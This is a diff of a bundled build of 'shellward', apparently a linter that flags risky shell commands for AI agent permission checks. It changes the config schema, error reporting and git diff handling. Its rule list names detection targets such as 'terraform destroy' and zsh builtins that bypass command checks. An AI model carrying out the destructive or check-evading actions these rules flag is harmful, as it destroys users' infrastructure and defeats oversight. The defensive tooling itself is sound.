+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "suppression-invalid": {
+          description: "I904: Suppression comment is invalid",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "suppression-unused": {
+          description: "I905: Suppression comment suppresses nothing",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "terraform-destroy": {
+          description: "D318: terraform destroy removes infrastructure",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "transcript-parse-error": {
+          description: "I903: Transcript line could not be read",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "unicode-whitespace": {
+          description: "S218: Unicode whitespace in a command",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "untrusted-input-in-run": {
+          description: "W601: Untrusted event data expanded into a run: script",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "zsh-dangerous-command": {
+          description: "S220: zsh builtin that bypasses command checks",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        }
+      },
+      additionalProperties: {
+        enum: [
+          "off",
+          "note",
+          "warning",
+          "error"
+        ]
+      }
     },
     profile: {
       type: "object",
       description: "Profile per source kind (DESIGN.md §5): agent (faithful to Claude Code) or script (ordinary scripting is not a finding).",
       additionalProperties: false,
       properties: {
-        script: { $ref: "#/definitions/profile" },
-        makefile: { $ref: "#/definitions/profile" },
-        transcript: { $ref: "#/definitions/profile" },
-        command: { $ref: "#/definitions/profile" }
+        script: {
+          $ref: "#/definitions/profile"
+        },
+        makefile: {
+          $ref: "#/definitions/profile"
+        },
+        transcript: {
+          $ref: "#/definitions/profile"
+        },
+        command: {
+          $ref: "#/definitions/profile"
+        }
       }
     },
     ignore: {
       type: "array",
       description: "Globs (relative to the config file's directory) of files not to lint: *, ** and ? are supported.",
-      items: { type: "string", minLength: 1 }
+      items: {
+        type: "string",
+        minLength: 1
+      }
     },
     makefiles: {
       type: "array",
       description: 'More file names to read as Makefiles, besides Makefile, makefile, GNUmakefile, *.mk and *.make: globs matched against the base name (e.g. "*.rules", "Makefile.*").',
-      items: { type: "string", minLength: 1 }
+      items: {
+        type: "string",
+        minLength: 1
+      }
     },
     claudeSettings: {
       type: "boolean",
@@ -50203,30 +58305,55 @@ var shellward_config_schema_default = {
     }
   },
   definitions: {
-    ruleList: { type: "array", items: { type: "string" } },
-    directories: { type: "array", items: { type: "string", minLength: 1 } },
-    profile: { enum: ["agent", "script"] }
+    ruleList: {
+      type: "array",
+      items: {
+        type: "string"
+      }
+    },
+    directories: {
+      type: "array",
+      items: {
+        type: "string",
+        minLength: 1
+      }
+    },
+    profile: {
+      enum: [
+        "agent",
+        "script"
+      ]
+    }
   }
 };
 
 // src/config/config.ts
 var ConfigError = class extends Error {
-  constructor(file, message4) {
-    super(`${file}: ${message4}`);
+  /**
+   * `file`: the config file as shown to the user; `message`: what is wrong (may end with a code
+   * frame); `location`: the 1-based line and column of the problem in `file`, when known.
+   */
+  constructor(file, message4, location) {
+    super(`${file}${location ? `:${location.line}${location.column !== void 0 ? `:${location.column}` : ""}` : ""}: ${message4}`);
     this.file = file;
+    this.location = location;
     this.name = "ConfigError";
   }
   file;
+  location;
 };
-var ajv = new import_ajv.Ajv({ allErrors: true, strict: false });
-var validateSchema = ajv.compile(shellward_config_schema_default);
+var compiledSchema;
+function validateSchema(value) {
+  compiledSchema ??= new import_ajv.Ajv({ allErrors: true, strict: false }).compile(shellward_config_schema_default);
+  return compiledSchema(value);
+}
 function keyPath(pointer) {
   if (pointer === "") return "(root)";
   return pointer.slice(1).split("/").map((p) => p.replace(/~1/g, "/").replace(/~0/g, "~")).map((p, i3) => /^\d+$/.test(p) ? `[${p}]` : i3 === 0 ? p : `.${p}`).join("");
 }
 function validateConfig(value, file) {
   if (!validateSchema(value)) {
-    const problems = (validateSchema.errors ?? []).map((e) => {
+    const problems = (compiledSchema?.errors ?? []).map((e) => {
       const extra = e.keyword === "additionalProperties" ? ` (${String(e.params.additionalProperty)})` : "";
       const allowed = e.keyword === "enum" ? `: ${(e.params.allowedValues ?? []).join(", ")}` : "";
       return `${keyPath(e.instancePath)}: ${e.message ?? "invalid"}${extra}${allowed}`;
@@ -50317,7 +58444,6 @@ function globMatcher(globs) {
 }
 
 // src/config/load.ts
-var import_cosmiconfig = __toESM(require_dist(), 1);
 import { readFile, stat } from "node:fs/promises";
 import { basename, dirname as dirname2, join, relative, resolve as resolve2, sep } from "node:path";
 import { homedir as homedir2 } from "node:os";
@@ -50392,15 +58518,34 @@ async function firstConfigCandidate(cwd) {
     dir = up;
   }
 }
+function loadErrorDetail(err2) {
+  const message4 = err2 instanceof Error ? err2.message : String(err2);
+  const frame = err2?.codeFrame;
+  if (typeof frame !== "string" || frame.trim() === "") return { reason: message4 };
+  const reason = message4.split(frame).join("").replace(/^JSON Error in [^\n]*?:\s*/, "").replace(/\s+/g, " ").trim();
+  const lines = frame.split("\n");
+  const at = lines.findIndex((l) => /^>\s*\d+ \|/.test(l));
+  const line = at >= 0 ? Number(/\d+/.exec(lines[at])[0]) : void 0;
+  const caret = at >= 0 ? lines[at + 1] : void 0;
+  const bar = caret?.indexOf("|") ?? -1;
+  const column = caret !== void 0 && bar >= 0 && caret.includes("^") ? caret.indexOf("^") - bar - 1 : void 0;
+  return { reason: `${reason}
+
+${frame}`, ...line !== void 0 ? { line } : {}, ...column !== void 0 && column >= 1 ? { column } : {} };
+}
 async function loadConfig(options) {
   const cwd = resolve2(options.cwd);
-  const explorer = (0, import_cosmiconfig.cosmiconfig)("shellward", { searchStrategy: "project", searchPlaces: [...SEARCH_PLACES] });
-  let found;
+  let found = null;
   try {
-    found = options.configFile ? await explorer.load(resolve2(cwd, options.configFile)) : await explorer.search(cwd);
+    if (options.configFile !== void 0 || await firstConfigCandidate(cwd) !== void 0) {
+      const { cosmiconfig } = await Promise.resolve().then(() => __toESM(require_dist(), 1));
+      const explorer = cosmiconfig("shellward", { searchStrategy: "project", searchPlaces: [...SEARCH_PLACES] });
+      found = options.configFile ? await explorer.load(resolve2(cwd, options.configFile)) : await explorer.search(cwd);
+    }
   } catch (err2) {
     const file = options.configFile ?? await firstConfigCandidate(cwd) ?? cwd;
-    throw new ConfigError(display(resolve2(cwd, file), cwd), `cannot be loaded: ${err2 instanceof Error ? err2.message : String(err2)}`);
+    const { reason, line, column } = loadErrorDetail(err2);
+    throw new ConfigError(display(resolve2(cwd, file), cwd), `cannot be loaded: ${reason}`, line !== void 0 ? { line, ...column !== void 0 ? { column } : {} } : void 0);
   }
   const sources = [];
   let config = {};
@@ -50441,368 +58586,169 @@ async function loadConfig(options) {
   return mergeSources(config, sources, root);
 }
 
-// src/core/positions.ts
-var LineIndex = class {
-  starts;
-  length;
-  /** Builds the index of `text` in one linear pass. */
-  constructor(text) {
-    const starts = [0];
-    let i3 = text.indexOf("\n");
-    while (i3 !== -1) {
-      starts.push(i3 + 1);
-      i3 = text.indexOf("\n", i3 + 1);
+// src/cli/io.ts
+import { readFileSync as readFileSync3, statSync as statSync2 } from "node:fs";
+import { isAbsolute, join as join2 } from "node:path";
+var LINE_HASH_MAX_BYTES = 64 * 1024 * 1024;
+function sarifFileText(cwd) {
+  return (file) => {
+    try {
+      const path6 = isAbsolute(file) ? file : join2(cwd, file);
+      const st = statSync2(path6);
+      if (!st.isFile() || st.size > LINE_HASH_MAX_BYTES) return void 0;
+      return readFileSync3(path6).toString("utf8");
+    } catch {
+      return void 0;
     }
-    this.starts = starts;
-    this.length = text.length;
-  }
-  /** Number of lines (a trailing newline starts an empty last line). */
-  get lineCount() {
-    return this.starts.length;
-  }
-  /** Offset of the first character of 1-based `line`; clamps to the text. */
-  lineStart(line) {
-    const i3 = Math.min(Math.max(line, 1), this.starts.length) - 1;
-    return this.starts[i3] ?? 0;
-  }
-  /** 1-based line and column of a 0-based UTF-16 offset; offsets outside the text are clamped. */
-  position(offset) {
-    const off = Math.min(Math.max(offset, 0), this.length);
-    let lo = 0;
-    let hi = this.starts.length - 1;
-    while (lo < hi) {
-      const mid = lo + hi + 1 >> 1;
-      if ((this.starts[mid] ?? 0) <= off) lo = mid;
-      else hi = mid - 1;
-    }
-    return { line: lo + 1, column: off - (this.starts[lo] ?? 0) + 1 };
-  }
-};
-function spanToRange(span, map, index) {
-  const hostStart = map.toHost(span.start);
-  let hostEnd = span.end > span.start ? map.toHost(span.end - 1) + 1 : hostStart + 1;
-  if (hostEnd < hostStart) hostEnd = hostStart + 1;
-  return { start: index.position(hostStart), end: index.position(hostEnd) };
+  };
 }
 
-// src/core/fingerprint.ts
-import { createHash } from "node:crypto";
-function lineHash(ruleId, lineText) {
-  const norm = lineText.replace(/\s+/g, " ").trim();
-  return createHash("sha256").update(ruleId).update("\0").update(norm).digest("hex").slice(0, 16);
-}
-function numberFingerprints(hashes) {
-  const seen = /* @__PURE__ */ new Map();
-  return hashes.map((h2) => {
-    const n2 = (seen.get(h2) ?? 0) + 1;
-    seen.set(h2, n2);
-    return `${h2}:${n2}`;
-  });
-}
+// package.json
+var package_default = { name: "shellward", version: "0.1.0" };
+
+// src/cli/version.ts
+var VERSION = package_default.version;
 
 // src/core/types.ts
 var SEVERITY_RANK = { error: 0, warning: 1, note: 2 };
 
-// src/parse/embedded.ts
-var SHELLS2 = /* @__PURE__ */ new Set(["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox"]);
-var SHELL_VALUE_OPTIONS = /* @__PURE__ */ new Set(["-o", "+o", "-O", "+O", "--rcfile", "--init-file"]);
-function wordCode(w, source) {
-  if (w.value === void 0) return void 0;
-  const inner = w.raw.length >= 2 && (w.raw[0] === "'" || w.raw[0] === '"') && w.raw.endsWith(w.raw[0]) ? 1 : 0;
-  const base = w.span.start + inner;
-  const exact = source.slice(base, base + w.value.length) === w.value;
-  return { text: w.value, base, exact };
-}
-function shellInvocation(args2) {
-  let sawC = false;
-  for (let i3 = 0; i3 < args2.length; i3++) {
-    const v = args2[i3].value;
-    if (v === void 0) return void 0;
-    if (sawC) return { kind: "string", word: args2[i3] };
-    if (v === "--" || v === "-") return { kind: "stdin" };
-    if (SHELL_VALUE_OPTIONS.has(v)) {
-      i3++;
-      continue;
-    }
-    if (/^[-+][A-Za-z]+$/.test(v)) {
-      if (v.startsWith("-") && v.includes("c")) sawC = true;
-      if (v.startsWith("-") && v.includes("s")) return { kind: "stdin" };
-      continue;
-    }
-    if (v.startsWith("--")) continue;
-    return void 0;
+// src/git/changed.ts
+var GitChangeError = class extends Error {
+  constructor(message4) {
+    super(message4);
+    this.name = "GitChangeError";
   }
-  return sawC ? void 0 : { kind: "stdin" };
+};
+var GIT_CONFIG = ["-c", "core.quotepath=false", "-c", "diff.noprefix=false", "-c", "diff.mnemonicPrefix=false", "-c", "diff.relative=false"];
+var MAX_BUFFER = 512 * 1024 * 1024;
+async function git(cwd, args2) {
+  const r = await execa("git", [...GIT_CONFIG, ...args2], { cwd, reject: false, stripFinalNewline: false, maxBuffer: MAX_BUFFER });
+  return { ok: r.exitCode === 0 && !r.failed, stdout: String(r.stdout ?? ""), stderr: String(r.stderr ?? "").trim() };
 }
-function embeddedCode(cmd, source) {
-  const resolved = resolveCommand(cmd);
-  if (!resolved) return [];
-  const out2 = [];
-  if (resolved.name === "eval") {
-    const words = resolved.args;
-    if (words.length === 0 || words.some((w) => w.value === void 0)) return [];
-    const first = words[0];
-    const last = words[words.length - 1];
-    const span = { start: first.span.start, end: last.span.end };
-    if (words.length === 1) {
-      const c3 = wordCode(first, source);
-      out2.push({ ...c3, span, via: "eval" });
+async function resolveCommit(cwd, ref, role) {
+  if (ref === "" || ref.startsWith("-")) throw new GitChangeError(`${role} ref ${JSON.stringify(ref)} is not a valid ref`);
+  const r = await git(cwd, ["rev-parse", "--verify", "--quiet", `${ref}^{commit}`]);
+  if (!r.ok) {
+    const inside = await git(cwd, ["rev-parse", "--is-inside-work-tree"]);
+    if (!inside.ok) throw new GitChangeError(`not inside a git work tree (${cwd})`);
+    throw new GitChangeError(
+      `${role} ref ${JSON.stringify(ref)} does not resolve to a commit; fetch it first (in GitHub Actions, check out with \`fetch-depth: 0\`)`
+    );
+  }
+  return r.stdout.trim();
+}
+async function range(options) {
+  const head = await resolveCommit(options.cwd, options.head ?? "HEAD", "head");
+  const base = await resolveCommit(options.cwd, options.base, "base");
+  if (options.exact) return [base, head];
+  const mb = await git(options.cwd, ["merge-base", base, head]);
+  if (!mb.ok) {
+    throw new GitChangeError(
+      `no merge base of ${JSON.stringify(options.base)} and ${JSON.stringify(options.head ?? "HEAD")} (a shallow clone? in GitHub Actions, check out with \`fetch-depth: 0\`)`
+    );
+  }
+  return [mb.stdout.trim(), head];
+}
+var DIFF_OPTIONS = ["--no-color", "--no-ext-diff", "--no-textconv", "-M", "--src-prefix=a/", "--dst-prefix=b/", "--diff-filter=ACMR"];
+async function changedFiles(options) {
+  const [mb, head] = await range(options);
+  return namesBetween(options.cwd, mb, head);
+}
+async function namesBetween(cwd, mb, head) {
+  const r = await git(cwd, ["diff", "--name-only", "-z", ...DIFF_OPTIONS, mb, head, "--"]);
+  if (!r.ok) throw new GitChangeError(`git diff failed: ${r.stderr}`);
+  return [...new Set(r.stdout.split("\0").filter((f) => f !== ""))].sort();
+}
+function binaryFromNumstat(out2) {
+  const fields = out2.split("\0");
+  const binary2 = [];
+  for (let i3 = 0; i3 < fields.length; i3++) {
+    const f = fields[i3];
+    const m = /^(-|\d+)\t(-|\d+)\t(.*)$/s.exec(f);
+    if (!m) continue;
+    let path6 = m[3];
+    if (path6 === "") {
+      path6 = fields[i3 + 2] ?? "";
+      i3 += 2;
+    }
+    if (m[1] === "-" && m[2] === "-" && path6 !== "") binary2.push(path6);
+  }
+  return binary2;
+}
+function unquoteGitPath(s) {
+  if (!(s.length >= 2 && s.startsWith('"') && s.endsWith('"'))) return s;
+  const simple = { a: 7, b: 8, t: 9, n: 10, v: 11, f: 12, r: 13, '"': 34, "\\": 92 };
+  const bytes = [];
+  const body2 = s.slice(1, -1);
+  for (let i3 = 0; i3 < body2.length; i3++) {
+    const c3 = body2[i3];
+    if (c3 !== "\\") {
+      bytes.push(...Buffer.from(c3, "utf8"));
+      continue;
+    }
+    const next = body2[i3 + 1] ?? "";
+    const oct = /^[0-7]{3}/.exec(body2.slice(i3 + 1));
+    if (oct) {
+      bytes.push(parseInt(oct[0], 8));
+      i3 += 3;
+    } else if (next in simple) {
+      bytes.push(simple[next]);
+      i3 += 1;
     } else {
-      out2.push({ text: words.map((w) => w.value).join(" "), base: span.start, exact: false, span, via: "eval" });
+      bytes.push(92);
     }
-    return out2;
   }
-  let name2 = resolved.name;
-  let args2 = resolved.args;
-  if (name2 === "busybox") {
-    const applet = args2[0]?.value;
-    if (applet === void 0 || !SHELLS2.has(commandBasename(applet))) return [];
-    name2 = commandBasename(applet);
-    args2 = args2.slice(1);
-  }
-  if (!SHELLS2.has(name2)) return [];
-  const inv = shellInvocation(args2);
-  if (!inv) return [];
-  if (inv.kind === "string") {
-    const c3 = wordCode(inv.word, source);
-    if (c3) out2.push({ ...c3, span: inv.word.span, via: "sh -c" });
-    return out2;
-  }
-  for (const r of cmd.redirects) {
-    if (r.heredoc && (r.fd === void 0 || r.fd === "0")) {
-      out2.push({ text: r.heredoc.body, base: r.heredoc.bodySpan.start, exact: true, span: r.heredoc.bodySpan, via: "heredoc" });
-    } else if (r.operator === "<<<" && r.target) {
-      const c3 = wordCode(r.target, source);
-      if (c3) out2.push({ ...c3, span: r.target.span, via: "here-string" });
+  return Buffer.from(bytes).toString("utf8");
+}
+function parseUnifiedZero(patch) {
+  const out2 = /* @__PURE__ */ new Map();
+  let current;
+  let header = false;
+  for (const line of patch.split("\n")) {
+    if (line.startsWith("diff --git ")) {
+      current = void 0;
+      header = true;
+    } else if (header && line.startsWith("+++ ")) {
+      const raw = unquoteGitPath(line.slice(4).replace(/\t$/, ""));
+      current = raw.startsWith("b/") ? raw.slice(2) : void 0;
+      if (current !== void 0 && !out2.has(current)) out2.set(current, []);
+    } else if (line.startsWith("@@ ") && (header || current !== void 0)) {
+      header = false;
+      if (current === void 0) continue;
+      const m = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,(\d+))? @@/.exec(line);
+      if (!m) continue;
+      const start2 = Number(m[1]);
+      const count2 = m[2] === void 0 ? 1 : Number(m[2]);
+      if (count2 > 0) out2.get(current).push([start2, start2 + count2 - 1]);
     }
   }
   return out2;
 }
-var EMBEDDED_LIMITS = {
-  /** Nesting depth: `sh -c "bash -c '…'"` is depth 2. */
-  maxDepth: 4,
-  /** Total characters of embedded code parsed per unit (a unit's own text bounds `sh -c`, but not `eval` joins). */
-  maxChars: 1e6
-};
-function shiftWord(w, map) {
-  return { ...w, span: map(w.span) };
+async function changedLines(options) {
+  const [mb, head] = await range(options);
+  const patch = await git(options.cwd, ["diff", "-U0", ...DIFF_OPTIONS, mb, head, "--"]);
+  if (!patch.ok) throw new GitChangeError(`git diff failed: ${patch.stderr}`);
+  const parsed = parseUnifiedZero(patch.stdout);
+  const out2 = /* @__PURE__ */ new Map();
+  for (const name2 of await namesBetween(options.cwd, mb, head)) out2.set(name2, parsed.get(name2) ?? []);
+  const numstat = await git(options.cwd, ["diff", "--numstat", "-z", ...DIFF_OPTIONS, mb, head, "--"]);
+  if (!numstat.ok) throw new GitChangeError(`git diff failed: ${numstat.stderr}`);
+  for (const path6 of binaryFromNumstat(numstat.stdout)) if (out2.has(path6)) out2.set(path6, [[1, Number.POSITIVE_INFINITY]]);
+  return out2;
 }
-function shiftCommand(c3, map, statement) {
-  return {
-    span: map(c3.span),
-    name: c3.name ? shiftWord(c3.name, map) : void 0,
-    args: c3.args.map((w) => shiftWord(w, map)),
-    assignments: c3.assignments.map((a2) => ({ ...a2, span: map(a2.span), value: a2.value ? shiftWord(a2.value, map) : void 0 })),
-    redirects: c3.redirects.map((r) => ({
-      ...r,
-      span: map(r.span),
-      target: r.target ? shiftWord(r.target, map) : void 0,
-      heredoc: r.heredoc ? { ...r.heredoc, bodySpan: map(r.heredoc.bodySpan) } : void 0
-    })),
-    statement,
-    embedded: true
-  };
+function lastLine(d) {
+  const { start: start2, end } = d.range;
+  return end.line > start2.line && end.column <= 1 ? end.line - 1 : Math.max(start2.line, end.line);
 }
-function withEmbedded(parsed, source, parse) {
-  const extra = [];
-  let budget = EMBEDDED_LIMITS.maxChars;
-  const queue = parsed.commands.map((cmd) => ({
-    cmd,
-    depth: 0,
-    map: (s) => s,
-    source,
-    statement: cmd.statement
-  }));
-  for (let next = 0; next < queue.length; next++) {
-    const { cmd, depth, map, source: src, statement } = queue[next];
-    if (depth >= EMBEDDED_LIMITS.maxDepth) continue;
-    for (const code of embeddedCode(cmd, src)) {
-      if (code.text.length > budget) return { ...parsed, commands: [...parsed.commands, ...extra] };
-      budget -= code.text.length;
-      const inner = parse(code.text);
-      if (!inner) continue;
-      const outer = map(code.span);
-      const innerMap = code.exact ? (s) => map({ start: code.base + s.start, end: code.base + s.end }) : () => outer;
-      for (const c3 of inner.commands) {
-        extra.push(shiftCommand(c3, innerMap, statement));
-        queue.push({ cmd: c3, depth: depth + 1, map: innerMap, source: code.text, statement });
-      }
-    }
-  }
-  return extra.length === 0 ? parsed : { ...parsed, commands: [...parsed.commands, ...extra] };
+function onChangedLines(diagnostics, changed, file) {
+  return diagnostics.filter((d) => {
+    const ranges = changed.get(file ?? d.file);
+    if (!ranges) return false;
+    const first = d.range.start.line;
+    const last = lastLine(d);
+    return ranges.some(([a2, b]) => first <= b && last >= a2);
+  });
 }
-
-// src/parse/nodes.ts
-var WORD_TYPES = /* @__PURE__ */ new Set([
-  "word",
-  "string",
-  "raw_string",
-  "ansi_c_string",
-  "translated_string",
-  "concatenation",
-  "simple_expansion",
-  "expansion",
-  "command_substitution",
-  "process_substitution",
-  "arithmetic_expansion",
-  "number",
-  "brace_expression"
-]);
-function spanOf(node) {
-  return { start: node.startIndex, end: node.endIndex };
-}
-function toAssignment(node) {
-  const name2 = node.childForFieldName("name")?.text ?? "";
-  const value = node.childForFieldName("value");
-  return { name: name2, value: value ? toWord(value) : void 0, span: spanOf(node) };
-}
-function toHeredoc(node) {
-  let start2;
-  let body2;
-  let stripTabs = false;
-  for (const c3 of node.children) {
-    if (!c3) continue;
-    if (c3.type === "heredoc_start") start2 = c3;
-    else if (c3.type === "heredoc_body") body2 = c3;
-    else if (c3.type === "<<-") stripTabs = true;
-  }
-  if (!start2) return void 0;
-  const raw = start2.text;
-  const quoted = /['"\\]/.test(raw);
-  const delimiter = raw.replace(/['"\\]/g, "");
-  const bodySpan = body2 ? spanOf(body2) : { start: start2.endIndex, end: start2.endIndex };
-  return { delimiter, quoted, stripTabs, body: body2?.text ?? "", bodySpan };
-}
-function toRedirect(node) {
-  let operator = "";
-  let fd;
-  const targets = [];
-  for (const c3 of node.children) {
-    if (!c3) continue;
-    if (c3.type === "file_descriptor") fd = c3.text;
-    else if (!c3.isNamed && operator === "") operator = c3.text;
-    else if (WORD_TYPES.has(c3.type)) targets.push(toWord(c3));
-  }
-  const heredoc = node.type === "heredoc_redirect" ? toHeredoc(node) : void 0;
-  if (heredoc) operator = heredoc.stripTabs ? "<<-" : "<<";
-  const [target, ...extraArgs] = targets;
-  return { redirect: { span: spanOf(node), operator, fd, target: heredoc ? void 0 : target, heredoc }, extraArgs };
-}
-function isRedirectNode(type) {
-  return type === "file_redirect" || type === "heredoc_redirect" || type === "herestring_redirect";
-}
-function toSimpleCommand(node, statement, redirectedParent) {
-  let name2;
-  const args2 = [];
-  const assignments = [];
-  const redirects = [];
-  const count2 = node.childCount;
-  for (let i3 = 0; i3 < count2; i3++) {
-    const c3 = node.child(i3);
-    if (!c3 || !c3.isNamed) continue;
-    const field2 = node.fieldNameForChild(i3);
-    if (c3.type === "variable_assignment") assignments.push(toAssignment(c3));
-    else if (isRedirectNode(c3.type)) {
-      const r = toRedirect(c3);
-      redirects.push(r.redirect);
-      args2.push(...r.extraArgs);
-    } else if (c3.type === "command_name") {
-      const inner = c3.namedChild(0);
-      name2 = toWord(inner ?? c3);
-    } else if (field2 === "argument" || WORD_TYPES.has(c3.type)) args2.push(toWord(c3));
-  }
-  if (redirectedParent) {
-    for (const c3 of redirectedParent.namedChildren) {
-      if (!c3 || !isRedirectNode(c3.type)) continue;
-      const r = toRedirect(c3);
-      redirects.push(r.redirect);
-      args2.push(...r.extraArgs);
-    }
-  }
-  args2.sort((a2, b) => a2.span.start - b.span.start);
-  return { span: spanOf(node), name: name2, args: args2, assignments, redirects, statement };
-}
-function errorAnchor(node) {
-  const cursor = node.walk();
-  const errorAt = [true];
-  let depth = 0;
-  try {
-    if (!cursor.gotoFirstChild()) return spanOf(node);
-    depth = 1;
-    for (; ; ) {
-      const isError = cursor.nodeType === "ERROR";
-      if (isError || cursor.nodeIsMissing || !cursor.nodeIsNamed && errorAt[depth - 1]) {
-        return { start: cursor.startIndex, end: cursor.endIndex };
-      }
-      errorAt[depth] = isError;
-      if (cursor.gotoFirstChild()) {
-        depth++;
-        continue;
-      }
-      while (!cursor.gotoNextSibling()) {
-        if (depth <= 1 || !cursor.gotoParent()) return spanOf(node);
-        depth--;
-      }
-    }
-  } finally {
-    cursor.delete();
-  }
-}
-function buildViews(tree, text) {
-  const statements = [];
-  const commands = [];
-  const problems = [];
-  const comments = [];
-  let nodeCount = 0;
-  const cursor = tree.walk();
-  let depth = 0;
-  let statement = -1;
-  let errorEnd = -1;
-  const complexity = new ComplexityScanner(text);
-  const redirected = [];
-  try {
-    for (; ; ) {
-      nodeCount++;
-      const type = cursor.nodeType;
-      const isNamed = cursor.nodeIsNamed;
-      complexity.visit(cursor, type, isNamed, depth);
-      redirected[depth] = type === "redirected_statement" ? cursor.currentNode : void 0;
-      if (depth === 1 && isNamed && type !== "comment") {
-        statement++;
-        statements.push({ type, span: { start: cursor.startIndex, end: cursor.endIndex } });
-      }
-      if (type === "comment") {
-        comments.push({ start: cursor.startIndex, end: cursor.endIndex });
-      } else if (type === "ERROR") {
-        if (cursor.startIndex >= errorEnd) {
-          problems.push({ kind: "error", span: errorAnchor(cursor.currentNode), expected: void 0 });
-          errorEnd = cursor.endIndex;
-        }
-      } else if (cursor.nodeIsMissing) {
-        if (cursor.startIndex >= errorEnd) {
-          problems.push({ kind: "missing", span: { start: cursor.startIndex, end: cursor.endIndex }, expected: type });
-        }
-      } else if (type === "command") {
-        const parent = depth > 0 && cursor.currentFieldName === "body" ? redirected[depth - 1] : void 0;
-        commands.push(toSimpleCommand(cursor.currentNode, Math.max(statement, 0), parent));
-      }
-      if (cursor.gotoFirstChild()) {
-        depth++;
-        continue;
-      }
-      while (!cursor.gotoNextSibling()) {
-        if (!cursor.gotoParent()) return { text, statements, commands, problems, comments, nodeCount, complexity: complexity.finish(problems[0]) };
-        depth--;
-      }
-    }
-  } finally {
-    cursor.delete();
-  }
-}
-
-// src/lint.ts
-import { homedir as homedir3 } from "node:os";
-import { posix as posix4 } from "node:path";
 
 // src/parse/parser.ts
 import { createRequire } from "node:module";
@@ -53710,14 +61656,14 @@ var Module2 = (() => {
         }
         var moduleExports;
         function resolveSymbol(sym) {
-          var resolved = resolveGlobalSymbol(sym).sym;
-          if (!resolved && localScope) {
-            resolved = localScope[sym];
+          var resolved2 = resolveGlobalSymbol(sym).sym;
+          if (!resolved2 && localScope) {
+            resolved2 = localScope[sym];
           }
-          if (!resolved) {
-            resolved = moduleExports[sym];
+          if (!resolved2) {
+            resolved2 = moduleExports[sym];
           }
-          return resolved;
+          return resolved2;
         }
         __name(resolveSymbol, "resolveSymbol");
         var proxyHandler = {
@@ -53733,10 +61679,10 @@ var Module2 = (() => {
               return res;
             }
             if (!(prop in stubs)) {
-              var resolved;
+              var resolved2;
               stubs[prop] = (...args2) => {
-                resolved ||= resolveSymbol(prop);
-                return resolved(...args2);
+                resolved2 ||= resolveSymbol(prop);
+                return resolved2(...args2);
               };
             }
             return stubs[prop];
@@ -54783,503 +62729,307 @@ function parseBash(parser, text, timeoutMs = DEFAULT_PARSE_TIMEOUT_MS) {
   return tree;
 }
 
-// src/lint.ts
-function recordedMode(unit) {
-  const m = unit.context?.permissionMode;
-  return m === "default" || m === "acceptEdits" ? m : void 0;
-}
-function pathContextFor(unit, policy, host) {
-  const cwd = unit.context?.cwd;
-  if (cwd === void 0) return void 0;
-  if (!cwd.startsWith("/")) return { cwd: void 0, workingDirectories: [], host };
-  const dirs = [posix4.resolve(cwd)];
-  for (const d of policy.additionalDirectories) {
-    const p = d.path === "~" ? host.home : d.path.startsWith("~/") ? posix4.join(host.home, d.path.slice(2)) : d.path;
-    const abs = posix4.resolve(cwd, p);
-    if (!dirs.includes(abs)) dirs.push(abs);
-  }
-  return { cwd: posix4.resolve(cwd), workingDirectories: dirs, host };
-}
-var Linter = class _Linter {
-  constructor(parser, options) {
-    this.parser = parser;
-    this.options = options;
-  }
-  parser;
-  options;
-  indexByText = /* @__PURE__ */ new Map();
-  /** Loads the parser (once per process) and returns a linter. Rejects if the wasm cannot load. */
-  static async create(options = {}) {
-    return new _Linter(await initParser(options.parser), { ...options, pathHost: options.pathHost ?? { home: homedir3() } });
-  }
-  /** Effective severity of `ruleId` for `unit`, or `undefined` when the rule is off. */
-  severityFor(ruleId, unit, requested) {
-    const override = this.options.severity?.[ruleId];
-    const level = override ?? requested ?? ruleMeta(ruleId)?.severity[unit.profile] ?? "warning";
-    return level === "off" ? void 0 : level;
-  }
-  lineIndex(hostText) {
-    let idx = this.indexByText.get(hostText);
-    if (!idx) {
-      idx = new LineIndex(hostText);
-      this.indexByText.clear();
-      this.indexByText.set(hostText, idx);
+// src/report/line-hash.ts
+var BLOCK_SIZE = 100;
+var EOF = 65535;
+var SPACE = 32;
+var TAB = 9;
+var LF2 = 10;
+var CR2 = 13;
+var TWO_32 = 4294967296;
+var FIRST_MOD = (() => {
+  let v = 1n;
+  for (let i3 = 0; i3 < BLOCK_SIZE; i3++) v = v * 37n & 0xffffffffffffffffn;
+  return [Number(v >> 32n), Number(v & 0xffffffffn)];
+})();
+function normalise(text) {
+  const units = new Uint16Array(text.length + 1);
+  const lineStarts = [];
+  let n2 = 0;
+  let lineStart = true;
+  let prevCR = false;
+  const take = (c3) => {
+    if (c3 === SPACE || c3 === TAB || prevCR && c3 === LF2) {
+      prevCR = false;
+      return;
     }
-    return idx;
-  }
-  /**
-   * Analyses one unit and returns its diagnostics in host-file coordinates, in no particular
-   * order and without fingerprints (see {@link finishFile}). Never throws: a failing check
-   * becomes an `internal-error` diagnostic and the other checks still run.
-   */
-  lintUnit(unit, policy) {
-    return this.analyse(unit, policy).diagnostics;
-  }
-  /** The policy of this linter (its options', or the empty policy). */
-  get policy() {
-    return this.options.policy ?? EMPTY_POLICY;
-  }
-  active = /* @__PURE__ */ new Map();
-  /**
-   * The checks with at least one rule that is not `off` for `profile` (after the configured
-   * severities): a check whose every finding would be dropped is not run at all.
-   */
-  activeChecks(profile) {
-    let list = this.active.get(profile);
-    if (!list) {
-      list = CHECKS.filter((c3) => c3.rules.some((r) => this.severityFor(r.id, { profile }) !== void 0));
-      this.active.set(profile, list);
-    }
-    return list;
-  }
-  /** Parses embedded shell code into views (the tree is freed at once); `undefined` on time-out. */
-  views(code) {
-    const tree = parseBash(this.parser, code, this.options.parseTimeoutMs ?? DEFAULT_PARSE_TIMEOUT_MS);
-    if (!tree) return void 0;
-    try {
-      return buildViews(tree, code);
-    } finally {
-      tree.delete();
-    }
-  }
-  /**
-   * {@link lintUnit} plus the permission decision of the unit, from one parse. `policy` replaces
